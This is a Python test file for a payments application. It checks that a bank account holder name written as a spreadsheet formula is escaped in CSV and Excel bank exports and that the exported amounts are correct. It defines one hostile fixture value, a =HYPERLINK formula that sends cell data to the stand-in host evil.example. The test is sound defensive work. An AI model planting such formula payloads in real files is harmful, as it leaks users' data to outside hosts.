"""A holder name that reads as a formula reaches the bank as text, in CSV and Excel alike, and
the amounts in the file are the roll's amounts."""

import csv
import io
from datetime import date
from decimal import Decimal

from openpyxl import load_workbook

from jiuzhu.payments import bankfiles, services
from jiuzhu.payments.models import BankAccount, PaymentRoll

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此领取")'


def test_formula_in_holder_name_is_neutralised_in_bank_files(grant, actors):
    a = grant("张三", "950")
    grant("李四", "1200.50")
    BankAccount.objects.filter(person_id=a.payee_id).update(holder_name=HOSTILE)
    services.rolls_generate(month=date(2026, 3, 1))
    roll = PaymentRoll.objects.get(month=date(2026, 3, 1), service_code="dibao")
    services.roll_review(actor=actors["payments"], roll=roll)
    services.roll_approve(actor=actors["approver"], roll=roll)

    _, content = bankfiles.roll_export(actor=actors["approver"], roll=roll)
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    holders = {r["户名"]: r for r in rows}
    assert "'" + HOSTILE in holders and HOSTILE not in holders
    assert not any(v.startswith(("=", "+", "@")) for r in rows for v in r.values())
    assert sorted(Decimal(r["金额"]) for r in rows) == [Decimal("950.00"), Decimal("1200.50")]

    _, xdata = bankfiles.roll_export(actor=actors["approver"], roll=roll, fmt="xlsx")
    ws = load_workbook(io.BytesIO(xdata)).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HOSTILE in [c.value for c in cells]
    assert sorted(Decimal(c.value) for c in cells if c.column == 7) == [Decimal("950.00"), Decimal("1200.50")]
